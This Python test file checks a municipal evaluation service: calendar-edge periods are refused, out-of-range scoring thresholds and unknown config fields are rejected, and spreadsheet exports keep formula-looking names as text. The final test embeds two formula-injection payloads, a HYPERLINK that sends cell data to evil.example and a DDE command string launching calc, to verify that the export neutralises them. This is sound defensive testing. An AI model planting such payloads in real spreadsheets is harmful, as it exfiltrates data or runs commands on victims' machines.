"""Edges of what leaders and street offices ask of the evaluation and the street statistics,
without a database: periods at the ends of the calendar are refused as 400 (they were 500s),
a scoring configuration whose thresholds no value can reach or that carries fields nothing
stores is refused naming the field while a version stored before still reads, and a name
that looks like a spreadsheet formula is text in the XLSX report."""

from __future__ import annotations

import copy
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from mapserver.cases import street_stats
from mapserver.errors import InvalidInput
from mapserver.evaluation import exports, report, scoring
from mapserver.evaluation.indicators import INDICATORS

EDGES = [
    ("0001-01-01", "0001-01-01"),  # its previous period is before the first day there is
    ("0001-01-01", "0001-12-31"),
    ("1899-12-31", "1900-01-31"),
    ("9999-12-01", "9999-12-31"),  # its trend's next month, its day after, are none
    ("2999-12-31", "3000-01-01"),
]


@pytest.mark.parametrize(("first", "last"), EDGES)
def test_periods_at_the_ends_of_the_calendar_are_refused(first: str, last: str) -> None:
    asked = {"from": first, "to": last}
    with pytest.raises(InvalidInput, match="must be a day from 1900-01-01 to 2999-12-31"):
        report.period(asked)
    with pytest.raises(InvalidInput, match="must be a day from 1900-01-01 to 2999-12-31"):
        street_stats.period(asked)


def test_periods_inside_the_bounds_have_a_previous_period_and_a_trend() -> None:
    for first, last in [("1900-01-01", "1900-01-01"), ("2999-12-01", "2999-12-31"),
                        ("2025-12-31", "2026-01-01"), ("1900-01-01", "1903-01-04")]:  # fmt: skip
        when = report.period({"from": first, "to": last})
        assert when.previous().last < when.first
        assert report.buckets(when)[-1].last == when.last
        assert street_stats.period({"from": last, "to": last}) == (when.last, when.last)


def _config(change: Any) -> dict[str, Any]:
    raw = copy.deepcopy(scoring.DEFAULT)
    change(raw)
    return raw


def _thresholds(key: str, values: list[float]) -> Any:
    return lambda raw: raw["indicators"][key].update(thresholds=values)


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (_thresholds("bureau.handling_rate", [5, 4, 3, 2]), "handling_rate.thresholds"),
        (_thresholds("bureau.rework_rate", [-0.2, -0.1, 0, 0.1]), "rework_rate.thresholds"),
        (_thresholds("grid.case_density", [-1, 2, 5, 10]), "case_density.thresholds"),
        (lambda raw: raw.update(total=[1e308, 80, 70, 60]), "config.total"),
        (lambda raw: raw.update(total=[90, 80, 70, -1e308]), "config.total"),
        (lambda raw: raw["indicators"]["grid.closing_rate"].update(colour="red"),
         "grid.closing_rate: unknown field 'colour'"),
    ],
)  # fmt: skip
def test_configuration_out_of_range_is_refused_naming_the_field(change: Any, named: str) -> None:
    raw = _config(change)
    with pytest.raises(InvalidInput, match=named.replace(".", r"\.")):
        scoring.parse(raw)


def test_a_version_stored_before_the_range_check_still_reads() -> None:
    raw = _config(_thresholds("bureau.handling_rate", [5, 4, 3, 2]))
    stored = scoring.parse(raw, ranges=False)
    assert stored.rules["bureau.handling_rate"].thresholds == (5, 4, 3, 2)
    # a density grows without bound; the total's thresholds reach the most points there are
    dense = _config(_thresholds("grid.case_density", [100, 1000, 1e5, 1e9]))
    assert scoring.parse(dense).rules["grid.case_density"].thresholds[-1] == 1e9
    assert scoring.parse(_config(lambda raw: raw.update(total=[100, 100, 0, 0]))).total[0] == 100


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"打开")'


def test_xlsx_holds_a_formula_looking_name_as_text() -> None:
    key = "bureau.handling_rate"
    described = [{"key": key, "title": INDICATORS[key].title, "formula": "x", "better": "higher",
                  "numerator": {"formula": "handled", "terms": []},
                  "denominator": {"formula": "dispatched", "terms": []}}]  # fmt: skip
    value = {"numerator": 1, "denominator": 2, "value": 0.5, "grade": "劣", "points": 20,
             "weight": 1.0, "score": 20, "previous_value": None}  # fmt: skip
    data = {
        "subject": "bureau",
        "period": {"from": "2026-10-01", "to": "2026-10-31"},
        "previous_period": {"from": "2026-08-31", "to": "2026-09-30"},
        "config_version": 0,
        "indicators": described,
        "subjects": [{"subject": "+cmd|' /C calc'!A0", "name": HOSTILE, "score": 20.0,
                      "grade": "劣", "previous_score": None, "change": None, "rank": 1,
                      "previous_rank": None, "indicators": {key: value}}],
    }  # fmt: skip
    book = load_workbook(io.BytesIO(exports.xlsx(data)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert HOSTILE in texts and "+cmd|' /C calc'!A0" in texts
